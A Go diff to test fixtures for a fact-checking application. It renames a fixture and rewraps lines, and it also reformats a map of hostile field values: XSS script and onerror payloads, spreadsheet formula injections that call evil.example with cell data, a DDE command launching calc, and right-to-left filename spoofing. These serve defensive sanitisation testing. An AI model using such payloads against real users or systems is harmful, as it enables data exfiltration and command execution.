@@ -57,13 +57,14 @@ func Dossier(v model.Version, i int, span passage.Span) model.Dossier {
 // Rate gives a claim a verdict, by Ann on 20 November 2026.
 func Rate(d *model.Dossier, rating, reasoning string) {
 	d.Verdicts = append(d.Verdicts, model.Verdict{
-		ID: fmt.Sprint("v", len(d.Verdicts)), ClaimID: d.Claim.ID, ScaleID: d.Scale.ID, Rating: rating, Reasoning: reasoning, By: "Ann", At: "2026-11-20T10:00:00.000Z",
+		ID: fmt.Sprint("v", len(d.Verdicts)), ClaimID: d.Claim.ID, ScaleID: d.Scale.ID, Rating: rating, Reasoning: reasoning, By: "Ann",
+		At: "2026-11-20T10:00:00.000Z",
 	})
 	d.Claim.Status = model.Checked
 }
 
-// Desk is an article with a signed claim, a rated one and one not looked at.
-func Desk(t testing.TB) view.Content {
+// Statuses is an article with a signed claim, a rated one and one not looked at.
+func Statuses(t testing.TB) view.Content {
 	c := Content(t, "Some 600 miles of border. Then 21,000 troops. And 80 envoys.", "600 miles", "21,000 troops", "80 envoys")
 	Rate(&c.Dossiers[0], "True", "On the map.")
 	c.Dossiers[0].Verdicts[0].SignedBy, c.Dossiers[0].Verdicts[0].SignedAt = "Bob", "2026-11-21T10:00:00.000Z"
@@ -86,11 +87,13 @@ func Full(t testing.TB) view.Content {
 		Evidence: model.Evidence{ID: "e", SourceID: "s", Stance: model.Refutes, Quote: "936 km", Locator: "p. 4", Note: "land border"},
 		Source:   model.Source{ID: "s", Title: "Atlas", Reliability: model.Mixed, Primary: true, FileHash: &hash},
 	}}
-	d.Appearances = append(d.Appearances, model.Appearance{ID: "other", ClaimID: d.Claim.ID, ArticleID: "a2", VersionID: "v9", Start: 3, End: 5, State: model.Anchored})
+	d.Appearances = append(d.Appearances, model.Appearance{ID: "other", ClaimID: d.Claim.ID, ArticleID: "a2", VersionID: "v9", Start: 3,
+		End: 5, State: model.Anchored})
 	c.Version.Hidden = []int{0}
 	c.Version.Blocks[0].Kind, c.Version.Blocks[0].Level = model.Heading, 1
 	c.Version.LeftOut = []model.LeftOut{{
-		Text: "“Größer”\n\n2,100 posts", Blocks: []model.Block{{Kind: model.Heading, Start: 0, End: 14, Level: 2}, {Kind: model.ListItem, Start: 16, End: 27}},
+		Text: "“Größer”\n\n2,100 posts", Blocks: []model.Block{{Kind: model.Heading, Start: 0, End: 14, Level: 2},
+			{Kind: model.ListItem, Start: 16, End: 27}},
 		Reason: "It stands beside the article on the page.", After: 0,
 	}}
 	c.Events = []model.Event{{Seq: 1, ID: "ev", At: "2026-11-20T10:00:00.000Z", Editor: "Ann", Action: "mark claim", What: "Marked"}}
@@ -116,7 +119,7 @@ func Every(t testing.TB) view.Content {
 // Revised is an article whose second version has other words for its first
 // claim, which was rated before, and no longer has its second one.
 func Revised(t testing.TB) view.Content {
-	c := Desk(t)
+	c := Statuses(t)
 	c.Version.ID, c.Version.Number = "v2", 2
 	for i := range c.Dossiers {
 		d := &c.Dossiers[i]
@@ -142,9 +145,11 @@ func Reviewed(t testing.TB) view.Content {
 	c := Full(t)
 	c.Article.URL, c.Article.Byline = "https://example.org/talks", "J. Doe"
 	c.Choices.ReviewURL, c.Choices.Newsroom = "https://check.example/talks", "The Checking Desk"
-	c.Dossiers[0].Appearances = append(c.Dossiers[0].Appearances, model.Appearance{ID: "third", ClaimID: "c0", ArticleID: "a3", VersionID: "v10"})
+	c.Dossiers[0].Appearances = append(c.Dossiers[0].Appearances, model.Appearance{ID: "third", ClaimID: "c0", ArticleID: "a3",
+		VersionID: "v10"})
 	c.Elsewhere = map[string]model.Article{
-		"a2": {ID: "a2", Title: "Earlier", URL: "https://other.example/earlier", Published: "2009-03-01"}, "a3": {ID: "a3", Title: "Without an address"},
+		"a2": {ID: "a2", Title: "Earlier", URL: "https://other.example/earlier", Published: "2009-03-01"},
+		"a3": {ID: "a3", Title: "Without an address"},
 	}
 	return c
 }
@@ -170,10 +175,10 @@ func Gallery(t testing.TB) map[string]view.Content {
 	rtl.Article.Title, rtl.Article.Language = "שיחות בהאג", "he"
 	Rate(&rtl.Dossiers[0], "Mixed", "לא בדיוק")
 	pages["rtl"] = rtl
-	german := Desk(t)
+	german := Statuses(t)
 	german.Choices = view.Choices{Language: "de", Newsroom: "Die Redaktion", Logo: Picture(t), Embed: true}
 	pages["german"] = german
-	without := Desk(t)
+	without := Statuses(t)
 	without.Choices.Without = []view.Part{view.Cards, view.SourceList, view.Method}
 	pages["without"] = without
 	var text []string
@@ -189,7 +194,8 @@ func Gallery(t testing.TB) map[string]view.Content {
 		for _, r := range s.Ratings {
 			all.Dossiers[i].Scale = s
 			Rate(&all.Dossiers[i], r.Label, "For a reason.")
-			all.Dossiers[i].Evidence = []model.Exhibit{{Evidence: model.Evidence{SourceID: "s", Stance: model.Stances[i%3], Quote: "so"}, Source: model.Source{ID: "s", Title: "Atlas", URL: "https://example.org/a", Primary: true}}}
+			all.Dossiers[i].Evidence = []model.Exhibit{{Evidence: model.Evidence{SourceID: "s", Stance: model.Stances[i%3], Quote: "so"},
+				Source: model.Source{ID: "s", Title: "Atlas", URL: "https://example.org/a", Primary: true}}}
 			i++
 		}
 	}
@@ -203,18 +209,19 @@ const Hostile = `<script>alert(1)</script><img src=x onerror=alert(2)>"'><b oncl
 
 // Hostiles are what a field may hold, by name.
 var Hostiles = map[string]string{
-	"markup":    Hostile,
-	"formula":   `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
-	"command":   "-2+3+cmd|' /C calc'!A0",
-	"second":    "harmless;=HYPERLINK(\"http://evil.example\")",
-	"newline":   "harmless\n=1+1",
-	"full":      "＝1+1",
-	"at":        "@SUM(1)",
-	"tab":       "\t=1+1",
-	"control":   "a\x00b\x07c\x1b[31md\x7fe",
-	"turned":    "abc\u202egnp.exe\u202c \u2067x",
-	"bytes":     "a\xffb\xc3",
-	"markdown":  "[a](javascript:alert(1)) ![x](http://evil.example/x.png) **b** `c` | d\n# heading\n- item\n1. item\n[^1]: note\n---\n> q <http://evil.example>",
+	"markup":  Hostile,
+	"formula": `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+	"command": "-2+3+cmd|' /C calc'!A0",
+	"second":  "harmless;=HYPERLINK(\"http://evil.example\")",
+	"newline": "harmless\n=1+1",
+	"full":    "＝1+1",
+	"at":      "@SUM(1)",
+	"tab":     "\t=1+1",
+	"control": "a\x00b\x07c\x1b[31md\x7fe",
+	"turned":  "abc\u202egnp.exe\u202c \u2067x",
+	"bytes":   "a\xffb\xc3",
+	"markdown": "[a](javascript:alert(1)) ![x](http://evil.example/x.png) **b** `c` | d\n# heading\n- item\n1. item\n[^1]: note\n---\n> " +
+		"q <http://evil.example>",
 	"separator": "a,\"b\";c\td\r\ne\u2028f",
 	"noncharac": "a\ufffeb\uffffc",
 }
